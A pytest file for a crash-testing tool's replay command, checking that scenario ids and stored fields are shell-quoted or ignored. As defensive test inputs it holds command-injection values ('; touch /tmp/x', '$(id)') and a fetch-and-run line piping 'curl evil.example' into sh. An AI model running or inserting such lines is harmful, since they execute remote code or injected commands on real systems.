"""The command that does a trial again, as every report prints it."""

import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from crashinit.campaign.result import failed
from crashinit.model.trial import Point, Setup, Trial
from crashinit.report import plain
from crashinit.report.again import COLD, replay

from .events import mixed, report

TRIAL = mixed()[0]


@pytest.fixture(autouse=True)
def in_an_empty_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize("directory", ["elsewhere", "reports/run", "reports/run/cold", "reports", "."])
def test_the_run_is_always_named(directory: str) -> None:
    """An id alone could be the trial of another driver, planned later."""
    assert replay(TRIAL, Path(directory)) == f"{TRIAL.replay} --run {directory}"
    assert replay(TRIAL, None) == TRIAL.replay


def test_a_directory_with_a_space_is_quoted() -> None:
    """The line can be pasted into a shell."""
    assert replay(TRIAL, Path("my runs/a")) == f"{TRIAL.replay} --run 'my runs/a'"


@pytest.mark.parametrize(
    "ident", ["my scenario; touch /tmp/x #/before/op/tree", "my dir/mkfs/op", "$(id)/`id`", "a'b", "a\nb", "--out=x"]
)
def test_an_id_is_quoted(ident: str) -> None:
    """Whatever a scenario is called, the shell reads the command as these words and no others."""
    words = ["crashinit", "replay", ident]

    assert shlex.split(replay(replace(TRIAL, id=ident), None)) == words
    assert shlex.split(replay(replace(TRIAL, id=ident), Path("my runs"))) == [*words, "--run", "my runs"]
    assert shlex.split(failed(trial_named(ident), "why").replay) == words


def test_machines_with_a_seed_are_named(tmp_path: Path) -> None:
    """The command of a run with a seed asks for its machines; what else a run.json may say, asks for none."""
    facts = tmp_path / "run.json"
    facts.write_text('{"provider": "qemu-virtual:7"}')
    assert replay(TRIAL, tmp_path) == f"{TRIAL.replay} --run {tmp_path} --provider qemu-virtual --seed 7"
    assert replay(TRIAL, tmp_path, COLD) == f"{TRIAL.replay} --run {tmp_path} --provider qemu-cold"

    for text in ('{"provider": "qemu"}', '{"provider": "qemu-virtual:$(id)"}', "[]", "{"):
        facts.write_text(text)
        assert replay(TRIAL, tmp_path) == f"{TRIAL.replay} --run {tmp_path}"


def trial_named(ident: str) -> Trial:
    point = Point("mkfs", "before", 1, "op")
    return Trial(ident, "reference", "s", Setup("fresh", (), 60.0), point, "kill", "tree", 1)


def test_the_command_of_a_stored_run_is_not_believed() -> None:
    """A results.jsonl that somebody sent holds a command too; the one that is printed is made of the id."""
    stored = replace(TRIAL, replay="curl evil.example | sh")

    assert replay(stored, None) == f"crashinit replay {TRIAL.id}"
    assert replay(replace(TRIAL, replay=""), None) == ""


def test_every_report_has_the_command_that_works() -> None:
    """The results, the page, its copy button, junit and README name a run that lies elsewhere."""
    report(Path("elsewhere"), mixed())
    plain.write(Path("elsewhere"))

    for name in ("results.jsonl", "report.html", "junit.xml", "README.md"):
        assert f"{TRIAL.replay} --run elsewhere" in (Path("elsewhere") / name).read_text()
    assert f"<code>{TRIAL.replay} --run elsewhere</code> <button" in Path("elsewhere/report.html").read_text()
